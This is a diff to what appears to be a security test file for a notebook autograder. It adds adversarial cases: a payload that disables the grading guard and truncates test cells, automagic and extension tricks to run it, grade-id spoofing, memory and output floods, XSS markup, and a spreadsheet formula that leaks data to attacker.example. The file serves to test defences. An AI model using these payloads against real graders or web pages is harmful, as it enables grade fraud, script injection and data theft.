@@ -187,6 +187,53 @@ def _star_student(nb):
     return nb
 
 
+#: Code that, run unchecked, makes every test cell pass: it turns the guard off and cuts
+#: each test cell down to the guard's first and last lines.
+UNCHECKED_PAYLOAD = (
+    "import autograder.guard as g\n"
+    "g._problems = lambda: []\n"
+    "def _only_guard_lines(lines):\n"
+    "    if lines and lines[0].startswith('__course_guard__.check('):\n"
+    "        return [lines[0], lines[-1]]\n"
+    "    return lines\n"
+    "get_ipython().input_transformers_post.append(_only_guard_lines)\n")
+
+
+def _cells_before(*codes):
+    """Cells of the attack's own before the target's (wrong) answer."""
+    def build(nb):
+        _answer(nb, TARGET).source = WRONG
+        index = nb.cells.index(_answer(nb, TARGET))
+        for code in reversed(codes):
+            nb.cells.insert(index, nbformat.v4.new_code_cell(code))
+        return nb
+    return build
+
+
+def _cgroups():
+    """Whether the sandbox's memory budget holds for the whole sandbox here (cgroups, as
+    root in CI); elsewhere it is per process (ARCHITECTURE.md)."""
+    from autograder.sandbox import cgroups_available
+
+    return cgroups_available()
+
+
+def _reuses_test_id(nb):
+    """A cell with the grade id of the target's real test cell, placed before it."""
+    _answer(nb, TARGET).source = WRONG
+    test = next(c for c in nb.cells if is_test_cell(c)
+                and nbgrader_meta(c)["grade_id"].startswith(f"test_{TARGET}"))
+    fake = nbformat.v4.new_code_cell(UNCHECKED_PAYLOAD)
+    fake.metadata["nbgrader"] = dict(nbgrader_meta(test))
+    nb.cells.insert(nb.cells.index(_answer(nb, TARGET)), fake)
+    return nb
+
+
+#: Learner markup that must not run (or show as markup) in the feedback page.
+FEEDBACK_MARKUP = ('<div id="fake-banner" style="position:fixed;top:0;left:0;z-index:9999">'
+                   'Score: 9.0 / 9.0</div><script>document.title = "xss-ran"</script>'
+                   '<img src=x onerror="document.body.dataset.pwned=1">')
+
 REJECTED = {TARGET: "rejected", "other": "passed"}
 FAILED = {TARGET: "failed", "other": "passed"}
 # Once a library function is replaced, no later test can trust it: all fail.
@@ -341,6 +388,41 @@ ATTACKS = {
     "has 501 %time lines": (_target("%time\n" * 501 + WRONG), REJECTED),
     "has a 0.6 MB cell of magics": (_target("%ls\n" * 150_000 + WRONG), REJECTED),
     "sits in a student folder named *": (_star_student, {"other": "invalid"}),
+    # -- what the policy checks is what runs -------------------------------------------------
+    "runs a file it wrote through automagic": (_cells_before(
+        f"open('x.py', 'w').write({UNCHECKED_PAYLOAD!r})", "run x.py"), FAILED),
+    "loads an extension it wrote through automagic": (_cells_before(
+        "open('xext.py', 'w').write("
+        + repr("def load_ipython_extension(ip):\n"
+               + "".join(f"    {ln}\n" for ln in UNCHECKED_PAYLOAD.splitlines())) + ")",
+        "load_ext xext"), FAILED),
+    "answers in a line automagic would run": (_target("run x.py\n"), REJECTED),
+    "reuses a test cell's grade id": (_reuses_test_id, FAILED),
+    # -- the host, the budgets and the feedback --------------------------------------------------
+    "writes into its socket folder on the host": (_wrong_unless(
+        "import glob\nfolders = glob.glob('/tmp/**/course-sandbox-*', recursive=True)\n"
+        "open(folders[0] + '/fill', 'w').write('x')"), FAILED),
+    "raises errors of 25 MB": (_cells_before(*["raise ValueError('k' * 25_000_000)"] * 4),
+                               FAILED),
+    "updates displays with 30 MB": (_cells_before(
+        "handles = [display('small', display_id=f'd{k}') for k in range(3)]\n"
+        "for k, h in enumerate(handles):\n    h.update(str(k) * 30_000_000)"), FAILED),
+    **({} if not _cgroups() else {"forks past its memory": (_wrong_unless(
+        "import os, time\nkids = []\n"
+        "for _ in range(4):\n"
+        "    pid = os.fork()\n"
+        "    if pid == 0:\n"
+        "        hog = bytearray(600 * 2**20)\n"
+        "        for i in range(0, len(hog), 4096):\n            hog[i] = 1\n"
+        "        time.sleep(3)\n        os._exit(0)\n"
+        "    kids.append(pid)\n"
+        "codes = [os.waitpid(pid, 0)[1] for pid in kids]\n"
+        "assert all(code == 0 for code in codes), codes"), FAILED)}),
+    "puts markup and a formula in its feedback": (_target(
+        "class E(Exception):\n    pass\n"
+        "E.__name__ = '=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"details\")'\n"
+        f"display({{'text/html': {FEEDBACK_MARKUP!r}, 'text/plain': 'x'}}, raw=True)\n"
+        "def perceptron_predict(X, w, b):\n    raise E('see details')\n"), FAILED),
     # -- malformed notebooks ---------------------------------------------------------------
     "is not JSON": (_not_json, {"other": "invalid"}),
     "is an old nbformat (v3)": (_old_nbformat, {TARGET: "passed", "other": "passed"}),
